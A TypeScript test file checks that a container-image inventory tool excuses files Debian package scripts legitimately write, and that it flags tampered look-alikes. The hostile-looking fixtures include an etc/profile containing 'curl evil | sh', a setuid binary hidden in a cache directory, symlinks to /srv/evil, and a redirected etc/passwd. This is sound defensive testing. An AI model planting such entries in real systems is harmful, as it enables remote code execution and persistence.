import assert from "node:assert/strict";
import { test } from "node:test";
import type { TarEntry } from "../../oci/tar/entry.ts";
import { dpkg, file, inventoryOf, link } from "./inventory.fixture.ts";
import { scriptWritten } from "./script-written.ts";

/** What a package of Debian brings, for scripts to copy and to link to. */
const brought: readonly TarEntry[] = [
  file("usr/bin/mawk"),
  file("usr/share/base-files/profile", "the profile"),
  file("usr/lib/python3/m.py"),
  file("etc/init.d/nginx"),
  file("empty", ""),
];
const base = [...brought, ...dpkg({ name: "base", files: brought.map(({ path }) => path) })];

const explained: readonly (readonly TarEntry[])[] = [
  [link("usr/bin/awk", "/etc/alternatives/awk"), link("etc/alternatives/awk", "/usr/bin/mawk")],
  [
    link("usr/share/man/man1/awk.1.gz", "/etc/alternatives/awk.1.gz"),
    link("etc/alternatives/awk.1.gz", "/usr/share/man/man1/mawk.1.gz"),
  ],
  [file("etc/profile", "the profile")],
  [file("usr/lib/python3/__pycache__/m.cpython-311.pyc")],
  [link("etc/rc2.d/S01nginx", "../init.d/nginx")],
  [file("etc/php/mods/x.ini", "the profile"), link("etc/php/conf.d/x.ini", "../mods/x.ini")],
  [file("var/lib/dpkg/info/base.postinst")],
  [file("var/log/nginx/access.log", ""), file("var/lib/php/registry/x", "")],
  [link("lib64", "usr/lib64"), link("dev/fd", "/proc/self/fd")],
  [file("etc/fstab", "# UNCONFIGURED FSTAB FOR BASE SYSTEM\n")],
];

test("what scripts are known to write is not listed as without an owner", async (t) => {
  for (const entries of explained)
    assert.deepEqual((await inventoryOf(t, [...base, ...entries])).unowned, [], entries[0]?.path ?? "");
});

const hidden: readonly TarEntry[] = [
  file("usr/share/mime/tool", "#!/bin/sh", 0o755),
  file("var/cache/man/suid", "\x7fELF", 0o4755),
  file("etc/profile", "curl evil | sh"),
  file("usr/bin/awk"),
  link("usr/bin/awk", "/etc/alternatives/../../srv/evil"),
  link("usr/bin/mawk2", "/usr/bin/mawk"),
  file("etc/alternatives/awk"),
  file("usr/lib/python3/__pycache__/other.cpython-311.pyc"),
  link("etc/rc2.d/S01evil", "/srv/evil"),
  file("var/lib/dpkg/info/evil.postinst"),
  file("var/log/nginx/access.log", "x"),
  link("lib64", "srv/lib64"),
  file("dev/fd"),
  link("etc/passwd", "/srv/passwd"),
  file(
    "etc/fstab",
    "/dev/sda1 /mnt ext4 suid,exec,dev 0 0\n# and a long line, so that this is a table of file systems\n",
  ),
  file("var/lib/dpkg/info/base.postinst/x"),
  file("etc/empty", ""),
];

test("what only looks like it is listed", async (t) => {
  for (const entry of hidden) {
    const { unowned } = await inventoryOf(t, [...base.filter(({ path }) => path !== entry.path), entry]);
    assert.deepEqual(
      unowned.map(({ path }) => path),
      [entry.path],
      `${entry.path} ${entry.linkname}`,
    );
  }
});

test("each line of the table matches whole paths, and gives its reason", () => {
  for (const { path, reason } of scriptWritten) {
    assert.ok(path.source.endsWith("$"), path.source);
    assert.match(reason, /^\w.{10,}\.$/);
  }
});
